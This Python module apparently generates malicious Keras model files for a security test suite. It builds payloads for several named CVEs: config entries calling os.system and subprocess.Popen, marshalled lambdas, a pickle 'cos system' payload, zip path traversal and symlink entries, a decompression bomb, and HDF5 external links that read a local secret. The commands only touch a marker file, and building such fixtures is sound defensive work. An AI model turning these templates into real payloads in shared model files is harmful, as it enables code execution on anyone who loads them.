"""Files of weights that try what no weights should: each made by hand, as an attacker makes it.

`MARK` stands where the code of an attack would leave its trace; `make` puts a path there.
"""

import base64
import io
import json
import marshal
import types
import zipfile

import h5py
import numpy as np

SHAPE = [None, 10, 12, 3]


def layer(name, config, module="keras.layers", inbound=(), **more):
    described = {"module": module, "class_name": name, "config": config, "registered_name": None, "name": "l", **more}
    return {**described, "inbound_nodes": list(inbound)}


def called(module, function, *args, **kwargs):
    """A function in a layer's place: building the network calls it with these arguments."""
    return layer("function", function, module, [{"args": list(args), "kwargs": kwargs}], registered_name=function)


def code(mark):
    """What marshal makes of a lambda that writes to `mark`."""
    function = eval(f"lambda x: [open({str(mark)!r}, 'w').write('ran'), x][1]")  # noqa: S307 - this is the attack
    assert isinstance(function, types.FunctionType)
    return base64.b64encode(marshal.dumps(function.__code__)).decode()


def functional(*layers):
    begin = layer("InputLayer", {"batch_shape": SHAPE, "dtype": "float32", "name": "in"})
    config = {"name": "net", "trainable": True, "layers": [{**begin, "name": "in"}, *layers]}
    config |= {"input_layers": [["in", 0, 0]], "output_layers": [["in", 0, 0]]}
    return {"module": "keras.src.models.functional", "class_name": "Functional", "config": config}


def sequential(*layers):
    begin = layer("InputLayer", {"batch_shape": SHAPE, "dtype": "float32", "name": "in"})
    config = {"name": "net", "trainable": True, "dtype": "float32", "layers": [begin, *layers]}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": "Sequential"}


def lambda_layer(mark):
    function = {"class_name": "__lambda__", "config": {"code": code(mark), "defaults": None, "closure": None}}
    return layer("Lambda", {"name": "l", "trainable": True, "dtype": "float32", "function": function, "arguments": {}})


def descriptions(mark):
    """config.json by name, of networks that do more than compute."""
    unsafe = called("keras.config", "enable_unsafe_deserialization")
    source = mark.with_name("source")
    there = {"fname": mark.name, "origin": source.as_uri(), "cache_dir": str(mark.parent), "cache_subdir": ""}
    system = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    gadget = {"name": "l", "function": system, "arguments": {}, "trainable": True, "dtype": "float32"}
    pickled = base64.b64encode(f"cos\nsystem\n(S'touch {mark}'\ntR.".encode()).decode()
    read = {"vocabulary": str(source), "name": "l", "max_tokens": None, "num_oov_indices": 1, "oov_token": "?"}
    spec = {"class_name": "__typespec__", "spec_name": "Popen", "module": "subprocess", "registered_name": None}
    return {
        "CVE-2025-1550": functional(called("os", "system", f"touch {mark}")),
        "CVE-2025-8747": functional(called("keras.utils", "get_file", **there)),
        "CVE-2025-9906": functional(unsafe, called("keras.ops", "abs", sequential(lambda_layer(mark)))),
        "CVE-2025-49655": sequential(layer("TorchModuleWrapper", {"module": pickled, "name": "l"})),
        "CVE-2025-12058": sequential(layer("StringLookup", read)),
        "CVE-2026-1462": sequential(layer("TFSMLayer", {"filepath": str(source), "name": "l"})),
        "lambda": sequential(lambda_layer(mark)),
        "lambda-of-a-function": sequential(layer("Lambda", gadget)),
        "inside-another": sequential(sequential(lambda_layer(mark))),
        "jax": sequential(layer("JaxLayer", {"call_fn": lambda_layer(mark)["config"]["function"], "name": "l"})),
        "class-of-another-module": sequential(layer("Popen", {"args": ["touch", str(mark)]}, "subprocess")),
        "type": sequential(layer("Dense", {"units": {**spec, "config": [["touch", str(mark)]]}, "name": "l"})),
        "weights-from-elsewhere": functional(called("keras.applications", "VGG16", weights=str(source))),
        "data-from-elsewhere": functional(called("keras.datasets.mnist", "load_data", path=str(mark))),
        "load": functional(called("keras.models", "load_model", str(source), safe_mode=False)),
        "picture": functional(called("keras.utils", "save_img", str(mark), [[[[0]]]])),
        "compiled": sequential({**sequential(), "compile_config": {"loss": lambda_layer(mark)}}),
    }


def empty_hdf5():
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file.create_group("layers")
    return stream.getvalue()


def archive(path, config, weights=None, *more):
    """A .keras file; `more`: (name or ZipInfo, bytes) of further entries."""
    text = config if isinstance(config, str) else json.dumps(config)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}))
        made.writestr("config.json", text)
        made.writestr("model.weights.h5", weights or empty_hdf5())
        for name, content in more:
            made.writestr(name, content)
    return path


def link():
    entry = zipfile.ZipInfo("assets/link")
    entry.external_attr = 0o120777 << 16
    return entry


def archives(folder, mark):
    """Paths of .keras files by name, of which each tries something in another way than its description."""
    good = sequential(layer("Flatten", {"name": "l"}))
    deep = '{"class_name": "Sequential", "config": ' + "[" * 100_000 + "]" * 100_000 + "}"
    made = {
        "deep": (deep,),
        "large": (" " * (2**24 + 1) + "{}",),
        "out": (good, None, ("../out.txt", b"x")),
        "absolute": (good, None, ("/tmp/out.txt", b"x")),
        "backslash": (good, None, ("assets\\..\\..\\out.txt", b"x")),
        "link": (good, None, (link(), b"/etc")),
        "bomb": (good, None, ("assets/zeros", bytes(2**28))),
        **{f"tables-{kind}": (good, data) for kind, data in tables(mark).items()},
    }
    return {name: archive(folder / f"{name}.keras", *parts) for name, parts in made.items()}


def tables(mark):
    """HDF5 files by name, whose weights are elsewhere, or far larger than the file (CVE-2026-1669, CVE-2026-0897)."""
    source = mark.with_name("source")
    made = {}
    for kind in ("outside", "mapped", "storage", "soft", "circle", "zeros"):
        stream = io.BytesIO()
        with h5py.File(stream, "w") as file:
            group = file.create_group("layers/dense/vars")
            if kind == "outside":
                group["0"] = h5py.ExternalLink(str(source), "/secret")
            elif kind == "soft":
                group["0"] = h5py.SoftLink("/elsewhere")
            elif kind == "circle":
                group["0"] = file["layers"]
            elif kind == "storage":
                group.create_dataset("0", (4,), "u1", external=[(str(source), 0, 4)])
            elif kind == "zeros":
                group.create_dataset("0", (2**16, 2**16), "f4", chunks=(1, 2**16))
            else:
                layout = h5py.VirtualLayout((4,), "u1")
                layout[:] = h5py.VirtualSource(str(source), "secret", (4,))
                group.create_virtual_dataset("0", layout)
        made[kind] = stream.getvalue()
    return made


def old_files(folder, mark):
    """Paths of .h5 files with a whole network, by name (CVE-2025-9905): Keras' old format ignored safe mode."""
    begin = {"class_name": "InputLayer", "config": {"batch_shape": SHAPE, "dtype": "float32", "name": "in"}}
    old = {"name": "l", "function": [code(mark), None, None], "function_type": "lambda", "arguments": {}}
    gadget = {"name": "l", "function": "system", "function_type": "function", "module": "os", "arguments": {}}
    layers = {
        "CVE-2025-9905": {"class_name": "Lambda", "config": old},
        "function": {"class_name": "Lambda", "config": gadget},
        "new": lambda_layer(mark),
        "wrapped": {"class_name": "TimeDistributed", "config": {"layer": {"class_name": "Lambda", "config": old}}},
    }
    made = {}
    for name, described in layers.items():
        made[name] = folder / f"{name}.h5"
        with h5py.File(made[name], "w") as file:
            network = {"class_name": "Sequential", "config": {"name": "net", "layers": [begin, described]}}
            file.attrs["model_config"] = json.dumps(network).encode()
            file.attrs["keras_version"], file.attrs["backend"] = b"3.15.1", b"tensorflow"
            file.create_group("model_weights").attrs["layer_names"] = np.array([b"l"])
    return made


def make(folder, mark):
    """All of them: paths by name. What they try to read is beside `mark`."""
    folder.mkdir(parents=True, exist_ok=True)
    mark.with_name("source").write_bytes(b"secret")
    described = {name: archive(folder / f"{name}.keras", config) for name, config in descriptions(mark).items()}
    return described | archives(folder, mark) | old_files(folder, mark)
